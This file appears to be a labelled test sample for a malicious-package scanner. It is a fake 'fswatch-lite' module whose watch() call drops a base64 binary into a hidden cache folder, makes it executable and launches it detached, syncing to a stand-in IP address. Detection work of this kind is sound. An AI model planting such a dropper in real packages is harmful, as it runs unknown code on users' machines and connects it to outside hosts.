// source: the fswatch-lite shape (bundled-binary-dropper, 2026 blind set): a file watcher's "optional native helper"
// kept as base64 in a JSON data file, written to the user's cache on the first watch(), made executable and started
// detached with a raw IP to sync to.
// expect: suspicious
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');
function ensure() {
  const manifest = require('./prebuilds/manifest.json');
  const target = manifest.targets[process.platform + '-' + process.arch];
  if (!target) return;
  const bin = path.join(os.homedir(), '.cache', '.fsnotify', manifest.helper);
  if (!fs.existsSync(bin)) {
    fs.writeFileSync(bin, Buffer.from(target.data, 'base64'));
    fs.chmodSync(bin, 0o755);
  }
  spawn(bin, ['--daemon', '--sync', '198.51.100.77:8443'], { detached: true, stdio: 'ignore' }).unref();
}
exports.watch = function watch(root) { ensure(); return fs.watch(root); };
